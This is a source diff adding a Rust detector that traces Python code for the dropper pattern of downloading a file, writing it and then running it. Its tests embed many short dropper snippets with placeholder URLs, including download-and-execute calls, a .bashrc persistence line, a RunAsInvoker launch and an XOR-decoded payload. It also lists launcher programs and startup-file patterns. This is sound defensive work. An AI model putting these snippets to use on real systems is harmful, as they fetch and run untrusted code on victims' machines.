@@ -1,0 +1,556 @@
+//! Does one Python scope run the very file it downloaded? Fetch, write and run in one
+//! function is a dropper's shape, but honest code has it too: an updater downloads a
+//! release and starts an unrelated helper script, an installer downloads an archive and
+//! runs `tar` on it. What tells a dropper apart is the data flow: the bytes that came from
+//! the network are written to a path, and that path is the program that starts (or the
+//! script an interpreter is told to run).
+//!
+//! The analysis follows names through one scope's statements in order, without a parser:
+//! a name bound to a response (`r = requests.get(u)`) or derived from one
+//! (`data = r.content`) carries the download; a path is written with it
+//! (`with open(p, 'wb') as f: f.write(data)`, `urlretrieve(u, p)`); a command whose
+//! program is that path (`subprocess.run([p])`, `os.startfile(p)`,
+//! `os.system(f"start {p}")`) runs it. Names it cannot follow make it answer no, so it
+//! confirms droppers rather than finds them.
+
+use crate::pyblocks::LineInfo;
+use regex::Regex;
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+use syntax::{
+    base_name, call_args, is_name, mentions_name, split_top_level, statements, string_literals,
+    unquote,
+};
+
+mod syntax;
+
+/// Where a scope downloads, writes and runs the same file (1-based lines).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DownloadRun {
+    pub fetched_line: u32,
+    pub written_line: u32,
+    pub run_line: u32,
+    /// The path expression as written (`file_path`, `'update.exe'`).
+    pub path: String,
+}
+
+/// A network call whose result is the downloaded content or a response holding it.
+static FETCH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"\b(?:urlopen|(?:requests|httpx|urllib3|session|sess|client|http|s)\.(?:get|post|request|stream)|PoolManager\(\)\.request)\s*\(",
+    )
+    .expect("valid regex")
+});
+/// Calls that fetch a URL straight into a file named by their second argument.
+static RETRIEVE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(?:urlretrieve|wget\.download|download_file)\s*\(").expect("valid regex")
+});
+static OPEN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:io\.)?open\s*\(").expect("valid regex"));
+static WITH_AS: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\bas\s+(\w+)\s*[:,)]").expect("valid regex"));
+static ASSIGN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^(\w+)\s*(?::[^=]+)?=\s*([^=].*)$").expect("valid regex"));
+static FOR_IN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^(?:async\s+)?for\s+\(?(\w+(?:\s*,\s*\w+)*)\)?\s+in\s+(.+):").expect("valid regex")
+});
+/// `out.append(b ^ k)`, `buf += chunk`: the collection holds what is added to it.
+static ACCUMULATE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^(\w+)(?:\.(?:append|extend|write)\s*\((.*)\)|\s*\+=\s*(.*))$")
+        .expect("valid regex")
+});
+static DEF_NAME: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^\s*(?:async\s+)?def\s+(\w+)").expect("valid regex"));
+static HANDLE_WRITE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(\w+)\.write\s*\(").expect("valid regex"));
+static WRITE_BYTES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?:\bPath\s*\(\s*([^()]+?)\s*\)|\b(\w+))\.write_bytes\s*\(").expect("valid regex")
+});
+static COPY_TO: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\bshutil\.copyfileobj\s*\(").expect("valid regex"));
+/// Files whose content the system runs at login or on a schedule.
+static STARTUP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)bashrc|bash_profile|zshrc|\.profile\b|crontab|autostart|startup|launchagents")
+        .expect("valid regex")
+});
+/// Calls that start a program named by their first argument.
+static RUN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?:\bsubprocess\.(?:run|Popen|call|check_call|check_output|getoutput|getstatusoutput)|\bos\.(?:system|popen|startfile|exec\w*|spawn\w*|posix_spawn)|(?:^|[^.\w])(?:Popen|startfile|system|popen))\s*\(",
+    )
+    .expect("valid regex")
+});
+
+/// Programs that run the file they are given: a downloaded script handed to one of them
+/// runs as surely as a downloaded executable started by name.
+const LAUNCHERS: &[&str] = &[
+    "bash",
+    "sh",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "pythonw",
+    "py",
+    "node",
+    "perl",
+    "ruby",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "start",
+    "wscript",
+    "cscript",
+    "mshta",
+    "msiexec",
+    "rundll32",
+    "regsvr32",
+    "open",
+    "xdg-open",
+    "sudo",
+    "nohup",
+    "exec",
+    "sys.executable",
+];
+
+/// The first place where `scope` (a function's `def` line, or `None` for module-level
+/// code) runs a file it downloaded.
+pub fn runs_what_it_downloaded(
+    data: &[u8],
+    lines: &[LineInfo],
+    scope: Option<u32>,
+    facts: &FileFacts,
+) -> Option<DownloadRun> {
+    let mut fetched: BTreeMap<String, u32> = BTreeMap::new();
+    let mut handles: BTreeMap<String, String> = BTreeMap::new();
+    // Path expression -> (line written, line of the download it holds).
+    let mut written: BTreeMap<String, (u32, u32)> = BTreeMap::new();
+    for (line, text) in statements(data, lines, scope) {
+        let text = text.trim();
+        let is_fetch =
+            |expr: &str| FETCH.is_match(expr) || facts.fetchers.iter().any(|f| called(expr, f));
+        let fetch_here = is_fetch(text);
+        let carries = |expr: &str, fetched: &BTreeMap<String, u32>| -> Option<u32> {
+            if fetch_here && is_fetch(expr) {
+                return Some(line);
+            }
+            fetched
+                .iter()
+                .find(|(name, _)| mentions_name(expr, name))
+                .map(|(_, &at)| at)
+        };
+        if let Some(found) = runs(text, &written, facts) {
+            let (path, (written_line, fetched_line)) = found;
+            return Some(DownloadRun {
+                fetched_line,
+                written_line,
+                run_line: line,
+                path,
+            });
+        }
+        for m in RETRIEVE.find_iter(text) {
+            let args = call_args(text, m.end() - 1);
+            if let Some(path) = args.get(1) {
+                remember(&mut written, path.to_string(), (line, line));
+            }
+        }
+        // `with open(p, 'wb') as f:` and `open(p, 'wb').write(data)`.
+        for m in OPEN.find_iter(text) {
+            let args = call_args(text, m.end() - 1);
+            let (Some(path), mode) = (args.first(), args.get(1)) else {
+                continue;
+            };
+            if !mode.is_some_and(|m| is_write_mode(m)) {
+                continue;
+            }
+            let rest = &text[m.end()..];
+            if let Some(handle) = text
+                .starts_with("with ")
+                .then(|| WITH_AS.captures(rest))
+                .flatten()
+            {
+                remember(&mut handles, handle[1].to_string(), path.to_string());
+            }
+            // `d = open(p, 'wb')`
+            if let Some(c) = ASSIGN.captures(text)
+                && c.get(2).is_some_and(|v| v.start() == m.start())
+            {
+                remember(&mut handles, c[1].to_string(), path.to_string());
+            }
+            if let Some(w) = rest.find(".write(") {
+                let arg = call_args(rest, w + ".write".len()).concat();
+                if let Some(at) = carries(&arg, &fetched) {
+                    remember(&mut written, path.to_string(), (line, at));
+                }
+            }
+        }
+        for c in HANDLE_WRITE.captures_iter(text) {
+            let (Some(path), Some(m)) = (handles.get(&c[1]), c.get(0)) else {
+                continue;
+            };
+            let arg = call_args(text, m.end() - 1).concat();
+            // Naming the download in a shell start-up file or a startup folder starts it
+            // at the next login.
+            if STARTUP.is_match(path)
+                && let Some((written_path, &(written_line, fetched_line))) =
+                    written.iter().find(|(p, _)| mentions(&arg, p, facts))
+            {
+                return Some(DownloadRun {
+                    fetched_line,
+                    written_line,
+                    run_line: line,
+                    path: written_path.clone(),
+                });
+            }
+            if let Some(at) = carries(&arg, &fetched) {
+                remember(&mut written, path.clone(), (line, at));
+            }
+        }
+        for m in COPY_TO.find_iter(text) {
+            let args = call_args(text, m.end() - 1);
+            if let (Some(source), Some(target)) = (args.first(), args.get(1))
+                && let (Some(at), Some(path)) = (carries(source, &fetched), handles.get(*target))
+            {
+                remember(&mut written, path.clone(), (line, at));
+            }
+        }
+        for c in WRITE_BYTES.captures_iter(text) {
+            let path = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
+            let arg = call_args(text, c.get(0).map_or(0, |m| m.end()) - 1).concat();
+            if let Some(at) = carries(&arg, &fetched) {
+                remember(&mut written, path.to_string(), (line, at));
+            }
+        }
+        let binding = ASSIGN
+            .captures(text)
+            .or_else(|| FOR_IN.captures(text))
+            .or_else(|| ACCUMULATE.captures(text))
+            .map(|c| {
+                let value = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
+                (c[1].to_string(), value.to_string())
+            })
+            .or_else(|| {
+                // `with urlopen(u) as r:` binds a response.
+                let c = text
+                    .starts_with("with ")
+                    .then(|| WITH_AS.captures(text))
+                    .flatten()?;
+                Some((c[1].to_string(), text.to_string()))
+            });
+        if let Some((names, value)) = binding {
+            if let Some(at) = carries(&value, &fetched) {
+                for name in names.split(',') {
+                    remember(&mut fetched, name.trim().to_string(), at);
+                }
+            }
+            // `cmd = f'"{p}" /S'` or `exe = p`: the name now stands for running the file.
+            if is_name(&names)
+                && let Some((_, &(w, f))) = written
+                    .iter()
+                    .find(|(path, _)| command_program_is(&value, path, facts))
+            {
+                remember(&mut written, names, (w, f));
+            }
+        }
+    }
+    None
+}
+
+/// Names followed per scope: a generated file binding thousands of responses must not
+/// make every later statement compare against all of them.
+const MAX_NAMES: usize = 64;
+
+fn remember<V>(map: &mut BTreeMap<String, V>, key: String, value: V) {
+    if map.len() < MAX_NAMES || map.contains_key(&key) {
+        map.insert(key, value);
+    }
+}
+
+/// The written path that `text` starts as a program, if any.
+fn runs(
+    text: &str,
+    written: &BTreeMap<String, (u32, u32)>,
+    facts: &FileFacts,
+) -> Option<(String, (u32, u32))> {
+    if written.is_empty() {
+        return None;
+    }
+    for m in RUN.find_iter(text) {
+        let args = call_args(text, m.end() - 1);
+        let Some(first) = args.first() else { continue };
+        for (path, &at) in written {
+            if command_program_is(first, path, facts) {
+                return Some((path.clone(), at));
+            }
+        }
+    }
+    None
+}
+
+/// Whether the command `expr` (an argument list, a shell string or a path) starts
+/// `path`, directly or through a launcher (`['bash', p]`, `f"start {p}"`).
+fn command_program_is(expr: &str, path: &str, facts: &FileFacts) -> bool {
+    let expr = expr.trim();
+    let mentions = |e: &str| mentions(e, path, facts);
+    if let Some(inner) = expr.strip_prefix('[').or_else(|| expr.strip_prefix('(')) {
+        let inner = inner.strip_suffix([']', ')']).unwrap_or(inner);
+        let elements = split_top_level(inner);
+        let Some(program) = elements.first() else {
+            return false;
+        };
+        return mentions(program)
+            || (is_launcher(&unquote(program)) && elements[1..].iter().any(|e| mentions(e)));
+    }
+    if expr == path || unquote(expr) == unquote(path) {
+        return true;
+    }
+    // `p + ' /S'`
+    if is_name(path) && expr.starts_with(path) && expr[path.len()..].trim_start().starts_with('+') {
+        return true;
+    }
+    // A shell string: the program is the first word of one of its commands
+    // (`set X=1 | start payload.exe`, `~/.drv &`).
+    let body = expr.trim_start_matches(['f', 'r', 'b', 'F', 'R', 'B']);
+    let literal = literal_of(path, facts);
+    // `os.startfile(os.getcwd() + "\\download.exe")`: a path, not a command line.
+    if !string_literals(expr)
+        .iter()
+        .any(|l| l.contains(char::is_whitespace))
+        && literal
+            .as_deref()
+            .is_some_and(|name| string_literals(expr).iter().any(|l| names_file(l, name)))
+    {
+        return true;
+    }
+    for command in body.split(['|', '&', ';']) {
+        let command = command.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
+        if let Some(rest) = command.strip_prefix('{') {
+            if mentions(rest.split('}').next().unwrap_or("")) {
+                return true;
+            }
+            continue;
+        }
+        let word: String = command
+            .chars()
+            .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\''))
+            .collect();
+        if literal.as_deref().is_some_and(|l| names_file(&word, l))
+            || (is_launcher(&word) && mentions(command))
+        {
+            return true;
+        }
+    }
+    // `"start " + p`: the path is a name outside the string.
+    let first_word: String = body
+        .trim_start_matches(['"', '\''])
+        .chars()
+        .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\''))
+        .collect();
+    is_launcher(&first_word) && mentions(expr)
+}
+
+/// Whether the shell word `word` names the file `literal` (`payload.exe`,
+/// `./payload.exe`, `~/.drv`).
+fn names_file(word: &str, literal: &str) -> bool {
+    let word = word.trim_matches(|c: char| matches!(c, '"' | '\'' | '`'));
+    !literal.is_empty() && base_name(word) == literal
+}
+
+fn is_launcher(word: &str) -> bool {
+    let word = word.trim().to_ascii_lowercase();
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(&word);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    LAUNCHERS.contains(&base)
+}
+
+/// What the rest of a file tells about one scope's names.
+#[derive(Debug, Default)]
+pub struct FileFacts {
+    /// Names bound to a plain string literal anywhere in the file (`LOC = ".drv"`).
+    constants: BTreeMap<String, String>,
+    /// Functions of the file that make a network request: calling one fetches.
+    fetchers: Vec<String>,
+}
+
+static CONSTANT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?m)^[ \t]*(\w+)[ \t]*=[ \t]*[rRbB]?(?:"([^"\\\n]{1,200})"|'([^'\\\n]{1,200})')[ \t]*(?:#.*)?$"#)
+        .expect("valid regex")
+});
+
+pub fn file_facts(data: &[u8], lines: &[LineInfo]) -> FileFacts {
+    let text = String::from_utf8_lossy(data);
+    let mut facts = FileFacts::default();
+    for c in CONSTANT.captures_iter(&text) {
+        let value = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
+        facts.constants.insert(c[1].to_string(), value.to_string());
+    }
+    let mut names: BTreeMap<u32, String> = BTreeMap::new();
+    let mut fetching: BTreeSet<u32> = BTreeSet::new();
+    for (index, (line, info)) in text.lines().zip(lines).enumerate() {
+        if let Some(c) = DEF_NAME.captures(line) {
+            names.insert(index as u32, c[1].to_string());
+        }
+        if let Some(f) = info.function
+            && info.kind.runs()
+            && FETCH.is_match(line)
+        {
+            fetching.insert(f);
+        }
+    }
+    facts.fetchers = fetching
+        .iter()
+        .filter_map(|f| names.get(f).cloned())
+        .filter(|name| name.len() > 2)
+        .take(MAX_NAMES)
+        .collect();
+    facts
+}
+
+fn called(expr: &str, function: &str) -> bool {
+    let mut from = 0;
+    while let Some(i) = expr[from..].find(function) {
+        let start = from + i;
+        let end = start + function.len();
+        if mentions_name(&expr[start..], function) && expr[end..].trim_start().starts_with('(') {
+            let before = expr[..start].chars().next_back();
+            if before.is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '.')) {
+                return true;
+            }
+        }
+        from = end;
+    }
+    false
+}
+
+/// The file name a path expression stands for (`'C://x//server.exe'`,
+/// `d + "\\ComServer.exe"`, `f'{tmp}/payload.exe'`, a constant), when it names one.
+fn literal_of(path: &str, facts: &FileFacts) -> Option<String> {
+    if is_name(path) {
+        return facts.constants.get(path).map(|l| base_name(l).to_string());
+    }
+    let literals = string_literals(path);
+    let last = literals.last()?;
+    let last = last.rsplit('}').next().unwrap_or(last);
+    let name = base_name(last);
+    (name.len() >= 3 && !name.contains(['{', '"', '\''])).then(|| name.to_string())
+}
+
+/// Whether `expr` refers to `path`: the same name, the same expression, or the same
+/// file name.
+fn mentions(expr: &str, path: &str, facts: &FileFacts) -> bool {
+    if is_name(path) && mentions_name(expr, path) {
+        return true;
+    }
+    let squeeze = |s: &str| s.chars().filter(|c| !c.is_whitespace()).collect::<String>();
+    if !is_name(path) && squeeze(expr).contains(&squeeze(path)) {
+        return true;
+    }
+    literal_of(path, facts).is_some_and(|name| {
+        expr.split(|c: char| c.is_whitespace() || "\"'`,+(){}[]".contains(c))
+            .any(|word| names_file(word, &name))
+    })
+}
+
+fn is_write_mode(mode: &str) -> bool {
+    let mode = mode
+        .trim()
+        .trim_start_matches("mode")
+        .trim_start()
+        .trim_start_matches('=');
+    let literal = unquote(mode);
+    mode.trim_start().starts_with(['"', '\'']) && literal.contains(['w', 'a', 'x'])
+}
+
+/// The scopes of a file: its functions, and the module body.
+#[cfg(test)]
+fn scopes(lines: &[LineInfo]) -> BTreeSet<Option<u32>> {
+    let mut out: BTreeSet<Option<u32>> = lines
+        .iter()
+        .filter(|l| l.kind.runs())
+        .filter_map(|l| l.function.map(Some))
+        .collect();
+    out.insert(None);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pyblocks::analyse_lines;
+
+    fn flow(source: &str) -> Option<DownloadRun> {
+        let lines = analyse_lines(source.as_bytes());
+        scopes(&lines).into_iter().find_map(|scope| {
+            runs_what_it_downloaded(
+                source.as_bytes(),
+                &lines,
+                scope,
+                &file_facts(source.as_bytes(), &lines),
+            )
+        })
+    }
+
+    #[test]
+    fn follows_a_response_into_a_file_that_is_started() {
+        let source = "import requests, subprocess\n\ndef init(url):\n    response = requests.get(url)\n    path = os.path.join(tmp, name)\n    with open(path, 'wb') as file:\n        file.write(response.content)\n\n    subprocess.run([path])\n";
+        let found = flow(source).expect("a dropper");
+        assert_eq!(
+            (found.fetched_line, found.written_line, found.run_line),
+            (4, 7, 9)
+        );
+        assert_eq!(found.path, "path");
+    }
+
+    #[test]
+    fn reads_module_level_droppers_and_retrievals_and_launchers() {
+        for source in [
+            "r = requests.get(U)\nopen('x.exe', 'wb').write(r.content)\nos.startfile('x.exe')\n",
+            "urllib.request.urlretrieve(U, p)\nos.system(f'start {p}')\n",
+            "urlretrieve(U, p)\nsubprocess.Popen(\n    ['powershell', '-File', p],\n    shell=True)\n",
+            "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    d.write(response.read())\n    brc = open(home + '/.bashrc', 'a')\n    brc.write('~/.drv &')\n",
+            "def execute():\n    response = requests.get(URL)\n    open(\"payload.exe\", \"wb\").write(response.content)\n    os.system(\"set __COMPACT_LAYER=RunAsInvoker | start payload.exe\")\n",
+            "LOC = '.drv'\ndef rn():\n    response = urllib2.urlopen(ADD_LOC).read ()\n    d = open (LOC, 'wb')\n    d.write (response)\n    os.system ('~/.drv &')\n",
+            "def close():\n    r = requests.get(url)\n    with open(f'C://AMD//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.startfile('C://AMD//server.exe')\n",
+            "def run(self):\n    def dfile(url):\n        return urlopen(Request(url)).read()\n    r = dfile(U)\n    with open(dname+\"\\\\ComServer.exe\",'wb') as f:\n        f.write(r)\n    subprocess.Popen([dname+\"\\\\ComServer.exe\" , \"show\"], cwd=dname)\n",
+            "def init():\n    open('download.exe', 'wb').write(requests.get(url).content)\n    os.startfile(os.getcwd()+\"\\\\download.exe\")\n",
+            "from os import system\nopen(\"/tmp/node\", \"wb\").write(requests.get(U).content)\nsystem(\"cd /tmp && chmod +x node && ./node\")\n",
+            "def r(path):\n    response = requests.get(url)\n    buf = response.content\n    out = []\n    for b, k in zip(buf, key):\n        out.append(b ^ k)\n    with open(binary_path, 'wb') as f:\n        f.write(bytes(out))\n    subprocess.Popen([binary_path])\n",
+            "data = urlopen(U).read()\nPath(p).write_bytes(data)\ncmd = f'\"{p}\" /S'\nos.system(cmd)\n",
+            "with urlopen(U) as r, open(p, 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.call([sys.executable, p])\n",
+        ] {
+            assert!(flow(source).is_some(), "{source}");
+        }
+    }
+
+    #[test]
+    fn a_generated_scope_is_read_within_bounds() {
+        // Thousands of responses bound in one function, an unclosed bracket at the end:
+        // the check stays linear and still sees the dropper at the top.
+        let mut source = String::from(
+            "def f():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    os.startfile(p)\n",
+        );
+        for i in 0..30_000 {
+            source.push_str(&format!("    r{i} = requests.get(U{i})\n"));
+        }
+        source.push_str("    x = (\n");
+        assert_eq!(flow(&source).map(|f| f.run_line), Some(4));
+    }
+
+    #[test]
+    fn an_unrelated_program_or_an_unfetched_file_is_not_a_dropper() {
+        for source in [
+            // The download is unpacked by tar: tar runs, not the download.
+            "def get():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run(['tar', 'xf', p])\n",
+            // A helper script is written from a literal and started (youtube-dl's updater).
+            "def update():\n    data = urlopen(U).read()\n    open(exe, 'wb').write(data)\n    open(bat, 'w').write('copy ...')\n    subprocess.Popen([bat])\n",
+            // Run before it was written.
+            "def f():\n    subprocess.run([p])\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n",
+            // Read mode.
+            "def f():\n    r = requests.get(U)\n    d = open(p, 'rb').read()\n    subprocess.run([p])\n",
+            // Fetch in one function, run in another.
+            "def a():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n\ndef b():\n    subprocess.run([p])\n",
+        ] {
+            assert_eq!(flow(source), None, "{source}");
+        }
+    }
+}
